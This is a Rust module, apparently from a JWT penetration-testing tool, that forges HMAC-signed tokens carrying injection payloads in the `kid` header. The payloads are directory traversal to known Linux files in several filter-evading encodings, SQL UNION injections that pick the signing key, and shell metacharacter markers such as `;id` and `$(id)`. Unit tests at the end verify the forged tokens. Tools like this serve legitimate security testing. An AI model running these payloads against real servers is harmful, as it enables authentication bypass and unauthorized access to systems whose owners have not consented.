//! The `kid` attacks: a server that reads `kid` as a file path, splices it into SQL, or
//! hands it to a shell verifies with a key the attacker chose. Each token is HMAC-signed
//! with the key the injected `kid` makes the server load.

use serde_json::Value;

use super::{hmac_token, Base};
/// Files every Linux machine has, whose content is known: the path from the root, and
/// the bytes. A server that strips what it reads keys with the content minus its
/// newline, so both are signed.
pub(super) const KNOWN_FILES: &[(&str, &[u8])] = &[
    ("dev/null", b""),
    ("proc/sys/kernel/ostype", b"Linux\n"),
    ("proc/sys/kernel/domainname", b"(none)\n"),
];

/// The literal the SQL injections select as the key.
pub(super) const SQLI_KEY: &[u8] = b"jot";

/// How deep the relative spellings climb: past the root of any likely key directory
/// (extra `../` at the root stay at the root, so one deep path serves every depth).
const DEPTH: usize = 10;

/// The spellings of one `../` step: plain, URL-encoded (for a filter that looks for `../`
/// before the path is decoded), backslashed (Windows), and doubled (a filter that removes
/// `../` once leaves `../`).
const STEPS: &[&str] = &["../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..\\", "....//"];

fn signed(b: &Base, kid: &str, key: &[u8]) -> String {
    let hash = b.hmac_hash();
    let mut h = b.header_with_alg(hash.hmac_alg().name());
    h.insert("kid".into(), Value::String(kid.into()));
    hmac_token(&h, &b.payload_seg, hash, key)
}

/// The keys a server reading `content` may end up with: as read, and stripped.
fn contents(content: &'static [u8]) -> Vec<(&'static [u8], &'static str)> {
    let stripped = content.trim_ascii_end();
    if stripped.len() == content.len() {
        vec![(content, "")]
    } else {
        vec![(content, ""), (stripped, ", stripped")]
    }
}

/// `kid` naming a file of known content, absolutely and by each spelling of climbing
/// [`DEPTH`] levels; signed with the content as read and as stripped.
pub(super) fn traversal(b: &Base, push: &mut impl FnMut(String, String)) {
    for (path, content) in KNOWN_FILES {
        for (key, how) in contents(content) {
            let shown = String::from_utf8_lossy(key).escape_debug().to_string();
            let secret = if key.is_empty() {
                "empty secret".to_string()
            } else {
                format!("secret \"{shown}\"{how}")
            };
            let kids = std::iter::once(format!("/{path}"))
                .chain(STEPS.iter().map(|s| format!("{}{path}", s.repeat(DEPTH))));
            for kid in kids {
                push(format!("kid {kid}, {secret}"), signed(b, &kid, key));
            }
        }
    }
}

/// `kid` whose UNION makes the key lookup return the literal `jot`.
pub(super) fn sqli(b: &Base, push: &mut impl FnMut(String, String)) {
    for kid in [
        "x' UNION SELECT 'jot' -- ",
        "x\" UNION SELECT \"jot\" -- ",
        "0 UNION SELECT 'jot' -- ",
    ] {
        push(format!("kid {kid}"), signed(b, kid, SQLI_KEY));
    }
}

/// `kid` with shell metacharacters; harmless markers, judged blind.
pub(super) fn cmdi(b: &Base, push: &mut impl FnMut(String, String)) {
    let orig = b.header.get("kid").and_then(Value::as_str).unwrap_or("key");
    for marker in ["|id", ";id", "$(id)", "`id`"] {
        let kid = format!("{orig}{marker}");
        push(format!("kid {kid}"), signed(b, &kid, b""));
    }
}

#[cfg(test)]
mod tests {
    use super::super::{attack, forge, hmac_token, Forgery, Inputs};
    use crate::alg::{Alg, Hash};
    use crate::b64;
    use crate::token::{self, Jws, Parsed};

    fn jws(t: &str) -> Jws {
        match token::parse(t).expect("parses") {
            Parsed::Jws(j) => j,
            Parsed::Jwe { .. } => panic!("not a JWS"),
        }
    }

    fn forged() -> Forgery {
        let h = serde_json::json!({"alg": "HS256", "kid": "key1"});
        let payload = b64::encode(br#"{"sub":"alice"}"#);
        let t = hmac_token(h.as_object().unwrap(), &payload, Hash::Sha256, b"s3cret");
        forge(
            &jws(&t),
            &[attack("kid-traversal").unwrap()],
            &Inputs::default(),
        )
        .unwrap()
    }

    fn hmac_ok(t: &str, key: &[u8]) -> bool {
        let j = jws(t);
        Alg::HS256.hash().hmac(key, j.signing_input.as_bytes()) == j.signature
    }

    /// Each known file is named absolutely and by every spelling of `../` (plain, encoded,
    /// backslashed, doubled), signed with its content as read and stripped of the newline
    /// (issue 19: a server that strips `Linux\n` keys with `Linux`).
    #[test]
    fn kid_traversal_signs_known_files_stripped_and_unstripped_in_every_spelling() {
        let f = forged();
        // /dev/null once (empty), ostype and domainname twice each; 7 spellings of each.
        assert_eq!(f.tokens.len(), 5 * 7);
        for x in &f.tokens {
            let kid = jws(&x.token).kid().unwrap().to_owned();
            let key: &[u8] = match (
                kid.rsplit('/').next().unwrap(),
                x.variant.contains("stripped"),
            ) {
                ("null", _) => b"",
                ("ostype", false) => b"Linux\n",
                ("ostype", true) => b"Linux",
                ("domainname", false) => b"(none)\n",
                ("domainname", true) => b"(none)",
                other => panic!("{other:?}"),
            };
            assert!(hmac_ok(&x.token, key), "{kid} {}", x.variant);
        }
        let kids: Vec<String> = f
            .tokens
            .iter()
            .map(|x| jws(&x.token).kid().unwrap().to_owned())
            .collect();
        let deep = |step: &str| format!("{}proc/sys/kernel/ostype", step.repeat(10));
        for want in [
            "/dev/null".to_string(),
            deep("../"),
            deep("..%2f"),
            deep("%2e%2e%2f"),
            deep("%2e%2e/"),
            deep("..\\"),
            deep("....//"),
        ] {
            assert!(kids.contains(&want), "{want} in {kids:?}");
        }
        assert!(f
            .tokens
            .iter()
            .any(|x| x.variant.contains("secret \"Linux\", stripped")));
    }
}
